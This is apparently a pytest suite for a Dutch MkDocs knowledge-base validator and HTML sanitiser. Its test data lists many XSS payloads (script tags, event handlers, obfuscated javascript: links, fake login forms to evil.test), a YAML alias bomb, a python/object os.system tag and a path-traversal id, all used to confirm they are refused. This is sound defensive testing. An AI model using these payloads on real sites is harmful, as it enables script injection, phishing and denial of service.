"""Hostile, broken or odd content: refused early with a Dutch, positioned message, or neutralised by the
sanitiser, and what the theme needs still reaches the page."""

from __future__ import annotations

import struct
import subprocess
import sys
import zlib
from pathlib import Path

import markdown
import pytest
from conftest import ROOT, TODAY, kennisbank, mkdocs_build, serve, small_repo, write_tip
from kennisbank.checks.loader import load_repository
from kennisbank.checks.sanitize import TAGS, clean_html
from kennisbank.site.markdown_ext import site_extensions
from lxml import html as lxml_html
from mkdocs.config import load_config

KENNISBANK = str(Path(sys.executable).with_name("kennisbank"))
STEP = "2. Klik op **Nieuw**."  # line 13 of VALID_TIP

# The seven kinds from the attack on the old regex check, plus the overlay: each refused with its line.
ISSUE_PAYLOADS = {
    "tilde fence hiding a backtick fence": ("~~~\n```\n~~~\n<img src=x onerror=alert(1)>", 16, "onerror"),
    "attr_list handler": ('[klik](https://intranet.test){: onclick="alert(1)" }', 13, "onclick"),
    "attr_list javascript href": ('[klik](https://x.test){: href="javascript&colon;alert(1)" }', 13, "javascript"),
    "reference definition": ("[klik][1]\n\n[1]: javascript:alert(1)", 15, "javascript"),
    "decimal entity scheme": ("[klik](&#106;avascript:alert(1))", 13, "javascript"),
    "hex entity scheme": ("[klik](jav&#x61;script:alert(1))", 13, "javascript"),
    "tab entity scheme": ("[klik](java&#x09;script:alert(1))", 13, "javascript"),
    "style overlay": ('Tekst\n{: style="position:fixed;inset:0;background:white" }', 14, "style"),
}


def _errors(repo: Path, rel: str) -> list[str]:
    return [p.format_text() for p in load_repository(repo, today=TODAY).errors if p.path == rel]


@pytest.mark.parametrize("name", list(ISSUE_PAYLOADS))
def test_hostile_bodies_are_refused_with_their_line(repo, name):
    body, line, word = ISSUE_PAYLOADS[name]
    rel = write_tip(repo, replace={STEP: body})
    errors = _errors(repo, rel)
    assert any(e.startswith(f"{rel}:{line}:") and ": inhoud: " in e and word in e for e in errors), errors


# --- the sanitiser, on exactly what the site's Markdown configuration renders ----------------------------

PAYLOADS = [
    *(body for body, _, _ in ISSUE_PAYLOADS.values()),
    "<script>alert(1)</script>",
    "<svg><script>alert(1)</script></svg>",
    "<svg onload=alert(1)>",
    "<math><mi xlink:href=javascript:alert(1)>x</mi></math>",
    '<iframe src="https://evil.test"></iframe>',
    '<object data="x.swf"></object><embed src="x.swf">',
    '<form action="https://evil.test"><input type="password" name="p"><button>Aanmelden</button></form>',
    '<meta http-equiv="refresh" content="0;url=https://evil.test">',
    '<base href="https://evil.test/">',
    '<link rel="stylesheet" href="https://evil.test/x.css">',
    "<style>body{display:none}</style>",
    '<div style="position:fixed;top:0;left:0;width:100%;height:100%">nep</div>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href="&#x6A;&#x61;vascript:alert(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<img src="https://evil.test/pixel.gif" onload="alert(1)">',
    '<div markdown="1" onclick="alert(1)">*x*</div>',
    "<details open ontoggle=alert(1)><summary>x</summary>y</details>",
    '!!! note "<img src=x onerror=alert(1)>"\n    inhoud',
    "# Kop <img src=x onerror=alert(1)>\n\ntekst",
    "Tekst\n{: .md-dialog .md-dialog--active .kb-home }",
    'Tekst\n{: #__search }\n\n<a id="__drawer" href="#x">x</a>',
    "<!-- <script>alert(1)</script> -->",
    "<![CDATA[<script>alert(1)</script>]]>",
    '<a href="java\nscript:alert(1)">x</a>',
    '<input type="text" value="paswoord">',
]
ALLOWED_SCHEMES = ("http:", "https:", "mailto:", "tel:")


@pytest.fixture(scope="module")
def render():
    """The Markdown of a content page as the build renders it: mkdocs.yml's extensions plus the plugin's."""
    config = load_config(str(ROOT / "mkdocs.yml"))
    extensions: list[str | markdown.Extension] = [*config.markdown_extensions, *site_extensions()]

    def convert(text: str) -> str:
        return markdown.Markdown(extensions=extensions, extension_configs=config.mdx_configs).convert(text)

    return convert


def problems_in(fragment: str) -> list[str]:
    """Everything in sanitised HTML that could run code, load or post something, or restyle the page."""
    found = []
    for element in lxml_html.fragment_fromstring(fragment, create_parent="div").iter():
        if not isinstance(element.tag, str) or element is None:
            continue
        if element.getparent() is not None and element.tag not in TAGS:
            found.append(f"tag <{element.tag}>")
        for name, value in element.attrib.items():
            if name.startswith("on"):
                found.append(f"{name}= on <{element.tag}>")
            if name in ("href", "src") and ":" in value.split("/")[0] and not value.startswith(ALLOWED_SCHEMES):
                found.append(f"{name}={value!r}")
            if name == "style" and value not in ("text-align:left", "text-align:center", "text-align:right"):
                found.append(f"style={value!r}")
            if name == "class" and any(c.startswith(("md-", "kb-")) for c in value.split()):
                found.append(f"class={value!r}")
            if name in ("id", "name") and value.startswith("__"):
                found.append(f"{name}={value!r}")
    return found


@pytest.mark.parametrize("payload", PAYLOADS)
def test_sanitiser_leaves_nothing_that_runs_or_restyles(render, payload):
    raw = render(payload)
    clean = clean_html(raw)
    assert problems_in(clean) == [], (raw, clean)
    assert "alert(1)" not in clean.replace("&lt;", "<") or "<" not in clean.split("alert(1)")[0][-1:]


def test_the_check_itself_would_notice_live_script():
    """The inspection above is not vacuous: plain Markdown output of the same payloads trips it."""
    config = load_config(str(ROOT / "mkdocs.yml"))
    plain = markdown.Markdown(extensions=config.markdown_extensions, extension_configs=config.mdx_configs)
    flagged = [p for p in PAYLOADS if problems_in(plain.reset().convert(p))]
    assert len(flagged) >= len(PAYLOADS) // 2, flagged


# --- what the theme needs survives, in a real build and in Chromium ---------------------------------------

RICH_BODY = """\
Druk op <Enter> en daarna op <Ctrl>+<C>. Of ++ctrl+alt+del++, of <kbd>F5</kbd>, en a < b > c.

!!! tip "Handig"
    Een admonition met **vet**.

??? note "Meer weten"
    Uitklapbaar blok.

| Links | Midden | Rechts |
|:------|:------:|-------:|
| a     | b      | c      |

```python
print("hallo")
```

- [x] gedaan
- [ ] nog te doen

## Een tussenkop

![Schermafbeelding van Outlook](scherm.png){ width="320" loading=lazy }

[Naar de knop](https://intranet.test/){ .md-button } en mail naar [ict](mailto:ict@koksijde.be).

Tekst met een verboden klasse
{: .md-dialog .kb-home #__search }

## Vreemde kop {: id='x"data-x="y' }

Gebruik a<b en c>d. <?php echo "Instructie"; ?>

<div>Druk in het venster op <Enter> of <Del>.</div>

<label>Wachtwoord <input type="password"></label>
"""


def _png() -> bytes:
    """A valid 2x2 PNG, so Chromium can decode the image."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    pixels = zlib.compress(b"\x00\xff\x00\x00\xff\x00\x00" * 2)
    header = struct.pack(">IIBBBBB", 2, 2, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", pixels) + chunk(b"IEND", b"")


@pytest.fixture(scope="module")
def rich_site(tmp_path_factory):
    # One rich tip is all it takes: the smallest repository, not the whole sample.
    repo = small_repo(tmp_path_factory.mktemp("rich") / "repo")
    (repo / "tips/burgerzaken").mkdir()
    (repo / "tips/burgerzaken/scherm.png").write_bytes(_png())
    write_tip(repo, "tips/burgerzaken/rijke-tip.md", replace={"1. Open Outlook.\n2. Klik op **Nieuw**.\n": RICH_BODY})
    assert _errors(repo, "tips/burgerzaken/rijke-tip.md") == []
    proc = mkdocs_build(repo, repo / "site")
    assert proc.returncode == 0, proc.stdout + proc.stderr
    return repo / "site"


@pytest.mark.build
def test_theme_markup_survives_the_sanitiser(rich_site):
    tree = lxml_html.fromstring((rich_site / "tips/rijke-tip/index.html").read_text(encoding="utf-8"))
    body = tree.xpath('//div[@class="kb-tip-body"]')[0]
    text = " ".join(body.text_content().split())
    assert "Druk op <Enter> en daarna op <Ctrl>+<C>." in text and "a < b > c" in text
    assert body.xpath('.//span[@class="keys"]/kbd[@class="key-control"]')
    assert body.xpath(".//kbd[.='F5']")
    assert body.xpath('.//div[@class="admonition tip"]/p[@class="admonition-title"][.="Handig"]')
    assert body.xpath('.//details[@class="note"]/summary[.="Meer weten"]')
    assert [c.get("style") for c in body.xpath(".//tbody//td")] == [
        "text-align:left",
        "text-align:center",
        "text-align:right",
    ]
    assert body.xpath('.//div[contains(@class, "highlight")]//code//span[@class]')
    boxes = body.xpath('.//li[contains(@class, "task-list-item")]//input[@type="checkbox"][@disabled]')
    assert [box.get("aria-label") for box in boxes] == ["gedaan", "nog te doen"]  # a screen reader names them
    assert body.xpath('.//h2[@id="een-tussenkop"]/a[@class="headerlink"][@href="#een-tussenkop"]')
    image = body.xpath(".//img")[0]
    assert image.get("alt") == "Schermafbeelding van Outlook" and image.get("loading") == "lazy"
    assert (image.get("width"), image.get("height")) == ("320", "320")  # the coach's width, the image's shape
    assert (rich_site / "tips/rijke-tip" / image.get("src")).resolve().is_file()
    assert body.xpath('.//a[@class="md-button"][@href="https://intranet.test/"]')
    assert body.xpath('.//a[@href="mailto:ict@koksijde.be"]')
    assert 'Gebruik a<b en c>d. <?php echo "Instructie"; ?>' in text
    assert "Druk in het venster op <Enter> of <Del>." in text
    assert [i.get("type") for i in tree.xpath("//article//input")] == ["checkbox", "checkbox"]  # no text field
    # An id with quotes reaches the theme's table of contents only as a safe id.
    assert tree.xpath('//a[contains(@class, "md-nav__link")][@href="#x-data-x-y"]')
    assert not tree.xpath("//*[@data-x]")
    forbidden = body.xpath(".//p[contains(., 'verboden klasse')]")[0]
    assert forbidden.get("class") is None and not (forbidden.get("id") or "").startswith("__")


@pytest.mark.build
def test_rich_tip_in_chromium_shows_keys_and_runs_nothing(rich_site, browser):
    context = browser.new_context(locale="nl-BE")
    page = context.new_page()
    dialogs: list[str] = []

    def on_dialog(dialog):
        dialogs.append(dialog.message)
        dialog.dismiss()

    page.on("dialog", on_dialog)
    try:
        with serve(rich_site) as base:
            page.goto(base + "tips/rijke-tip/")
            body = page.locator(".kb-tip-body")
            assert "Druk op <Enter> en daarna op <Ctrl>+<C>." in body.inner_text()
            fixed = page.eval_on_selector_all(
                ".kb-tip-body *", "els => els.filter(e => getComputedStyle(e).position === 'fixed').length"
            )
            assert fixed == 0
            # The image is lazy: on a loaded machine it may still be on its way when the page's load event fires.
            # A broken image is complete too, with no width, so waiting for `complete` cannot hide one.
            page.wait_for_function("document.querySelector('.kb-tip-body img').complete")
            assert page.locator(".kb-tip-body img").evaluate("img => img.naturalWidth > 0")
    finally:
        context.close()
    assert dialogs == []


# --- front matter and files that used to hang or crash ---------------------------------------------------

BOMB = "".join(
    f"l{i}: &l{i} [{', '.join([f'*l{i - 1}'] * 9) if i else 'lol'}]\n" for i in range(10)
)  # nine levels of nine aliases: a billion values when expanded

FRONT_MATTER_CASES = {
    "alias bomb": ("tags: [test]\n", "tags: [test]\n" + BOMB, "ankers en verwijzingen"),
    "recursive alias": ("tags: [test]\n", "tags: &a [*a]\n", "ankers en verwijzingen"),
    "5000-digit number": ("tags: [test]\n", "tags: [test]\nzz: " + "9" * 5000 + "\n", "te groot"),
    "deep nesting": ("tags: [test]\n", "tags: " + "[" * 300 + "]" * 300 + "\n", "te diep genest"),
    "control character in title": ("title: Een testtip over Outlook", 'title: "Een \\a testtip"', "stuurteken"),
    "raw control character": ("title: Een testtip over Outlook", "title: Een \x07 testtip", "stuurteken"),
    "noncharacter in title": ("title: Een testtip over Outlook", 'title: "Een \\uFFFE testtip"', "stuurteken"),
    # bytes would slip past every text check: from an attack, this put live script into <title>
    "binary title": ("title: Een testtip over Outlook", "title: !!binary PC90aXRsZT4=", "'!!binary' is niet"),
    "timestamp tag": ("date: 2026-10-14", "date: !!timestamp 2026-10-14", "'!!timestamp' is niet"),
    "python object tag": ("tags: [test]\n", "tags: !!python/object:os.system [ls]\n", "is niet toegestaan"),
    "list as a key": ("tags: [test]\n", "tags: [test]\n? [a, b]\n: x\n", "een lijst of {…} als veldnaam"),
    "NUL in a key": ("tags: [test]\n", 'tags: [test]\n"tit\\0le": x\n', "tit\\x00le"),
    "deep list in the body": (STEP, "\n".join("    " * i + "- x" for i in range(40)), "te diep genest"),
    "deep quote in the body": (STEP, "> " * 300 + "x", "te diep genest"),
    "snippet include": (STEP, '--8<-- "over.md"', "--8<--"),
    "snippet include inside a code block": (STEP, '```\n--8<-- "bestaat-niet.md"\n```', "--8<--"),
    "long paragraph of escapes": (STEP, "\\. " * 40_000, "langer dan 10000 tekens"),
    "many code spans in one paragraph": (STEP, "`a` " * 30_000, "langer dan 10000 tekens"),
    "image from another host via /\\": (STEP, "![x](/\\evil.example/p1.png)", "buiten het intranet"),
    "reference link to a missing tip": (STEP, "[zie][1]\n\n[1]: ../alle/bestaat-niet.md", "niet bestaat"),
    "bare web address as link": (STEP, "[site](www.koksijde.be)", "lijkt een webadres"),
    # An unclosed fence is text for Markdown, so what follows is live (found by the parity test).
    "broken link after an unclosed fence": (STEP, "```\n[x](../alle/bestaat-niet.md)", "niet bestaat"),
    "script after an unclosed fence": (STEP, "~~~\n<script>alert(1)</script>", "<script>"),
    # From an attack on this check: a lone CR is a line break for Markdown, so the include is live.
    "snippet after a lone carriage return": (STEP, 'Tekst.\r--8<-- "over.md"', "--8<--"),
    "reference definition in a quote": (STEP, "Tekst [x][r].\n\n> [r]: ontbreekt.md", "niet bestaat"),
    "reference definition in a list item": (STEP, "- item\n\n    [r]: ontbreekt.md\n\n    [x][r]", "niet bestaat"),
    "handler after a quote in attr_list": (STEP, "## Stap {: id='a\"onfocus=\"alert(1)' }", "onfocus"),
    "external image": (STEP, "![Aanmelden](https://evil.test/login.png)", "buiten het intranet"),
    "nested emphasis": (STEP, "*a " * 1000 + "x" + " a*" * 1000, "opmaaktekens"),
    "unclosed brackets": (STEP, "Tekst " + "[" * 20000, "opmaaktekens"),
    "image next to the tip that is no image": (STEP, "![Het menu](scherm.png)", "geen geldige .png-afbeelding"),
}


@pytest.mark.parametrize("name", list(FRONT_MATTER_CASES))
def test_odd_input_gets_a_dutch_positioned_error_without_traceback(repo, name):
    old, new, expected = FRONT_MATTER_CASES[name]
    if name == "image next to the tip that is no image":
        (repo / "tips/burgerzaken/scherm.png").write_bytes(b"\x89PNG\r\n\x1a\n")
    rel = write_tip(repo, replace={old: new})
    proc = kennisbank("--root", str(repo), "validate", cwd=repo)  # in-process: a traceback fails the test
    assert proc.returncode == 1, proc.stdout
    mine = [line for line in proc.stdout.splitlines() if line.startswith(rel + ":")]
    assert any(expected in line for line in mine), proc.stdout


def test_minutes_infinity_is_a_dutch_error(repo):
    meeting = repo / "meetings/2026-12-01.md"
    text = meeting.read_text(encoding="utf-8")
    assert "minutes: 10" in text
    meeting.write_text(text.replace("minutes: 10", "minutes: .inf", 1), encoding="utf-8")
    errors = _errors(repo, "meetings/2026-12-01.md")
    assert any("minutes" in e and "getal" in e for e in errors), errors


def test_oversized_file_is_refused_before_reading(repo):
    rel = write_tip(repo, replace={STEP: "x" * (600 * 1024)})
    assert any("de grens is 512 KB" in e for e in _errors(repo, rel))


@pytest.mark.build
def test_files_that_would_be_lost_are_named(repo, tmp_path):
    outside = tmp_path / "geheim.md"
    outside.write_text("---\ntitle: geheim\n---\nwachtwoord\n", encoding="utf-8")
    tips = repo / "tips/burgerzaken"
    (tips / "naar-buiten.md").symlink_to(outside)
    (tips / "nergens.md").symlink_to(tmp_path / "bestaat-niet.md")
    (tips / "lus.png").symlink_to("lus.png")  # a loop: the folder walk must not stop on it
    (tips / "map.md").mkdir()
    (tips / "Hoofdletters.MD").write_text("x", encoding="utf-8")
    (tips / "lange-naam.markdown").write_text("x", encoding="utf-8")
    (tips / "notities.docx").write_bytes(b"PK")
    (tips / ".concept.md").write_text("x", encoding="utf-8")
    result = load_repository(repo, today=TODAY)
    by_path = {p.path: p for p in result.problems}
    assert "buiten de repository" in by_path["tips/burgerzaken/naar-buiten.md"].message
    assert "nergens naar wijst" in by_path["tips/burgerzaken/nergens.md"].message
    assert "nergens naar wijst" in by_path["tips/burgerzaken/lus.png"].message
    assert "tips/burgerzaken/map.md" not in by_path  # a folder, not a file: nothing to read, nothing lost
    assert "Hernoem het naar 'Hoofdletters.md'" in by_path["tips/burgerzaken/Hoofdletters.MD"].message
    assert "Hernoem het naar 'lange-naam.md'" in by_path["tips/burgerzaken/lange-naam.markdown"].message
    assert by_path["tips/burgerzaken/notities.docx"].severity == "warning"
    assert "begint met een punt" in by_path["tips/burgerzaken/.concept.md"].message
    assert all(t.title != "geheim" for t in result.repository.tips)
    proc = mkdocs_build(repo, repo / "site")
    assert proc.returncode == 1 and "buiten de repository" in proc.stderr
    assert "Traceback" not in proc.stderr
    assert not (repo / "site/tips/naar-buiten").exists()


@pytest.mark.build
def test_vocabulary_ids_cannot_leave_the_site(repo, tmp_path):
    """Department ids become folders (diensten/<id>/): from an attack, '../../…' wrote outside the site."""
    taxonomy = repo / "tips/taxonomy.yml"
    text = taxonomy.read_text(encoding="utf-8")
    escape = f"'../../../../..{tmp_path}/buiten'"
    taxonomy.write_text(text.replace("departments:\n", f"departments:\n  {escape}: Buiten\n", 1), encoding="utf-8")
    errors = _errors(repo, "tips/taxonomy.yml")
    assert any(":12:3: departments.../" in e and "geen geldige id" in e for e in errors), errors
    proc = mkdocs_build(repo, repo / "site")
    assert proc.returncode == 1 and "geen geldige id" in proc.stderr
    assert not (tmp_path / "buiten").exists()


def test_taxonomy_labels_are_escaped_in_the_markdown_agenda(repo):
    """From an attack: a level label with Markdown became a live image and link in agenda.md (read in Teams)."""
    taxonomy = repo / "tips/taxonomy.yml"
    text = taxonomy.read_text(encoding="utf-8")
    hostile = "'Basis ![](https://evil.test/px.png) [klik](javascript:alert(1))'"
    assert "  basis: {label: Basis," in text
    taxonomy.write_text(text.replace("  basis: {label: Basis,", f"  basis: {{label: {hostile},"), encoding="utf-8")
    assert load_repository(repo, today=TODAY).errors == []
    proc = subprocess.run(
        [KENNISBANK, "--root", str(repo), "agenda", "2026-11-10", "--format", "md"],
        capture_output=True,
        text=True,
        timeout=60,
    )
    assert proc.returncode == 0 and "Basis" in proc.stdout, proc.stderr
    rendered = lxml_html.fragment_fromstring(markdown.markdown(proc.stdout), create_parent="div")
    assert rendered.xpath("//img") == []
    assert [a for a in rendered.xpath("//a/@href") if "javascript" in a or "evil" in a] == []
